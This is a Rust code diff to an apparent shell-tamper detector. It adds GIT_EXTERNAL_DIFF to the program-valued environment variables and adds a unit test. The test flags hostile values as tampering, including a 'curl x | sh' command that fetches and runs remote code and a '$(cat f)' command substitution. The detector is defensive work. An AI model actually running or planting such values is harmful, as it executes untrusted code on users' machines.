@@ -707,8 +707,12 @@ pub(crate) fn is_tamper(name: &str, val: &Val, ctx: &ShellContext) -> bool {
             .filter(|e| !e.is_empty() && !is_self_ref(e, &up))
             .any(|e| lib_dir_unsafe(e, ctx)),
         "ZDOTDIR" => lib_dir_unsafe(v, ctx),
-        "PAGER" | "EDITOR" | "VISUAL" | "GIT_PAGER" | "GIT_EDITOR" | "RUSTC_WRAPPER" | "RUSTC"
-        | "SHELL" => match self_default(v) {
+        // `GIT_EXTERNAL_DIFF` names the program `git diff` runs (git(1) "ENVIRONMENT
+        // VARIABLES"), a pager or editor like the others: a program found on the PATH or in a
+        // system folder is the user's own tool (`GIT_EXTERNAL_DIFF=difft git diff`); git's
+        // analysis of the value as a command (vcs.rs) still gives its own facts.
+        "PAGER" | "EDITOR" | "VISUAL" | "GIT_PAGER" | "GIT_EDITOR" | "GIT_EXTERNAL_DIFF"
+        | "RUSTC_WRAPPER" | "RUSTC" | "SHELL" => match self_default(v) {
             // `PAGER="${PAGER:-less}"`, `VISUAL="${VISUAL:-$EDITOR}"`: the user's own value is kept;
             // the default counts only when it is more than a plain program or another of
             // these variables.
@@ -877,6 +881,27 @@ mod tests {
             classify("/usr/share/dbus-1/system-services/org.x.service", &c),
             Some(("autostart", false))
         );
+    }
+
+    #[test]
+    fn external_diff_is_a_program_variable() {
+        let c = ctx();
+        for v in [
+            "difft",
+            "difftastic --display side-by-side",
+            "/usr/bin/vimdiff",
+        ] {
+            assert!(!is_tamper("GIT_EXTERNAL_DIFF", &val(v), &c), "{v}");
+        }
+        for v in [
+            "./diff.sh",
+            "/tmp/d",
+            "sh -c 'curl x | sh'",
+            "$(cat f)",
+            "~/bin/d",
+        ] {
+            assert!(is_tamper("GIT_EXTERNAL_DIFF", &val(v), &c), "{v}");
+        }
     }
 
     #[test]
